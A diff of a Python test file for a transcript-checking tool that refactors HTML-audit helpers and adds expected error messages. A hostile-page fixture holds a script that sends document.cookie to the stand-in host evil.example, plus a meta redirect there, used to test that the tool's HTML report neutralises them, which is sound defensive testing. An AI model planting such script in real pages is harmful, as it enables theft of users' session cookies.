@@ -7,7 +7,6 @@ these tests.
 
 from __future__ import annotations
 
-import html.parser
 import os
 import shutil
 import subprocess
@@ -16,8 +15,7 @@ import sys
 import numpy as np
 import pytest
 
-from helpers import assert_error, run
-from test_audio import tone, write_audio
+from helpers import Html, assert_error, run, tone, write_audio
 from transcheck.audio import load_audio
 from transcheck.errors import AudioError
 
@@ -64,7 +62,8 @@ def test_music_only(tmp_path, official, session_cache_dir):
     t = np.arange(rate * 8) / rate
     chords = sum(np.sin(2 * np.pi * f * t) for f in (220, 277, 330, 440)) * 0.1 * (1 + np.sin(2 * np.pi * 0.5 * t))
     music = write_audio(tmp_path / "music.wav", chords[None, :].astype(np.float32), rate, "pcm_s16le")
-    assert_error(check(music, official, "--no-verify", cache=session_cache_dir))
+    assert_error(check(music, official, "--no-verify", cache=session_cache_dir),
+                 f"{music}: ", "no speech found", "check that this is the briefing recording")
 
 
 @pytest.mark.model
@@ -108,24 +107,6 @@ def test_utf16_and_windows_1252_transcripts_read(tmp_path, sample_dir):
         assert read_official(path).text == text
 
 
-class _Audit(html.parser.HTMLParser):
-    """Collects every tag, attribute and URL that could act in a browser."""
-
-    def __init__(self):
-        super().__init__()
-        self.tags, self.handlers, self.urls, self.scripts = set(), [], [], 0
-
-    def handle_starttag(self, tag, attrs):
-        self.tags.add(tag)
-        for name, value in attrs:
-            if name.startswith("on"):
-                self.handlers.append((tag, name))
-            if name in ("href", "src", "action", "formaction", "xlink:href") and value:
-                self.urls.append(value)
-        if tag == "script" and dict(attrs).get("type") != "application/json":
-            self.scripts += 1
-
-
 HOSTILE_PAGE = """<!DOCTYPE html><html><head><title>Briefing</title>
 <script>document.location='https://evil.example/?c='+document.cookie</script>
 <meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
@@ -152,13 +133,16 @@ def test_hostile_web_page_stays_text(tmp_path, recording, session_cache_dir):
                    cache=session_cache_dir)
     assert result.exit_code == 0, result.output
     report = out.read_text(encoding="utf-8")
-    audit = _Audit()
-    audit.feed(report)
-    assert audit.scripts == 1  # transcheck's own, allowed by hash
-    assert not audit.tags & {"iframe", "frame", "object", "embed", "img", "base", "form"}  # (the svg is our timeline)
-    assert audit.handlers == []
-    assert all(not u.lower().lstrip().startswith(("javascript:", "http:", "https:", "//")) for u in audit.urls)
-    assert "evil.example" not in " ".join(audit.urls)
+    audit = Html(report)
+    tags = {tag for tag, _ in audit.elements}
+    handlers = [(tag, name) for tag, attrs in audit.elements for name in attrs if name.startswith("on")]
+    urls = [value for _, attrs in audit.elements for name, value in attrs.items()
+            if name in ("href", "src", "action", "formaction", "xlink:href") and value]
+    assert len(audit.scripts()) == 1  # transcheck's own, allowed by hash
+    assert not tags & {"iframe", "frame", "object", "embed", "img", "base", "form"}  # (the svg is our timeline)
+    assert handlers == []
+    assert all(not u.lower().lstrip().startswith(("javascript:", "http:", "https:", "//")) for u in urls)
+    assert "evil.example" not in " ".join(urls)
     assert "&lt;script&gt;alert(9)&lt;/script&gt;" in report  # the title, escaped
     assert "Content-Security-Policy" in report and "default-src &#39;none&#39;" in report
 
@@ -177,7 +161,9 @@ def test_caption_file_with_overlapping_and_negative_times(tmp_path):
 
 @pytest.mark.skipif(not os.path.isdir("/proc"), reason="needs /proc as an unwritable place")
 def test_unwritable_output(recording, official):
-    assert_error(run("check", recording, official, "-o", "/proc/transcheck-report.html", "--no-cache"))
+    # refused before the recording is decoded or heard: the output place is tried first
+    assert_error(run("check", recording, official, "-o", "/proc/transcheck-report.html", "--no-cache"),
+                 "/proc/transcheck-report.html: cannot write here", "choose another output path")
 
 
 @pytest.mark.model
